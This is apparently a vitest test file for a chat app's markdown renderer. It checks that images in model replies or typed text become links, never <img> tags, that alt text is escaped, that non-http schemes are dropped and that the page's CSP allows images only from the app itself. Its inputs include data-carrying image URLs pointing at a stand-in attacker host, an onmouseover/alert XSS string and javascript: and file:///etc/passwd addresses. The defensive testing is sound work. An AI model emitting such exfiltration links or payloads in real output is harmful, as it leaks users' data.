import { describe, expect, it } from 'vitest';
import { renderReplyMarkdown, renderTypedMarkdown } from '../../../src/web/markdown/render-markdown.ts';
import { contentSecurityPolicy } from '../../../src/web/security/csp.ts';

/**
 * Markdown images, from a model's reply or from what a person typed, load nothing: each becomes a link
 * whose text is the alt text (or the address), which goes nowhere unless the reader follows it.
 */
describe('Markdown images', () => {
  for (const [who, render] of [
    ['a reply', renderReplyMarkdown],
    ['typed text', renderTypedMarkdown],
  ] as const) {
    it(`in ${who} render as links showing their alt text, never as <img>`, () => {
      const rendered = render('Look: ![the *secret* chart](https://attacker.example/?d=secret "Chart")');
      expect(rendered).not.toMatch(/<img/i);
      expect(rendered).toContain(
        '<a href="https://attacker.example/?d=secret" title="Chart" target="_blank" rel="noopener noreferrer nofollow">the secret chart</a>',
      );
    });
  }

  it('show their address when they have no alt text, so the reader sees where a click would go', () => {
    expect(renderReplyMarkdown('![](https://attacker.example/pixel.png?d=1&e=2)')).toBe(
      '<p><a href="https://attacker.example/pixel.png?d=1&amp;e=2" target="_blank" rel="noopener noreferrer nofollow">https://attacker.example/pixel.png?d=1&amp;e=2</a></p>\n',
    );
  });

  it('by reference, or as the text of a link, load nothing either (links do not nest)', () => {
    const byReference = renderReplyMarkdown('![ref][pixel]\n\n[pixel]: https://attacker.example/r.png');
    expect(byReference).toContain('<a href="https://attacker.example/r.png" target="_blank" rel="noopener noreferrer nofollow">ref</a>');
    const inLink = renderReplyMarkdown('[![logo](https://attacker.example/l.png)](https://site.example)');
    expect(inLink).toBe('<p><a href="https://site.example" target="_blank" rel="noopener noreferrer nofollow">logo</a></p>\n');
  });

  it('escape what their alt text and address carry', () => {
    const rendered = renderReplyMarkdown('![<b onmouseover=alert(1)>"x"](https://attacker.example/a"b)');
    expect(rendered).not.toMatch(/<b|<img/i);
    expect(rendered).toContain('&lt;b onmouseover=alert(1)&gt;');
  });

  it('with other schemes keep no address at all', () => {
    for (const source of ['data:image/png;base64,AAAA', 'javascript:alert(1)', 'file:///etc/passwd', '//attacker.example/x.png']) {
      const rendered = renderReplyMarkdown(`![x](${source})`);
      expect(rendered, source).not.toMatch(/<img|href="(?!https?:)/i);
    }
  });

  it("are backed by the page's policy: images load from the app itself only", () => {
    const imgSrc = contentSecurityPolicy('nonce')
      .split('; ')
      .find((directive) => directive.startsWith('img-src'));
    expect(imgSrc).toBe("img-src 'self'");
  });
});
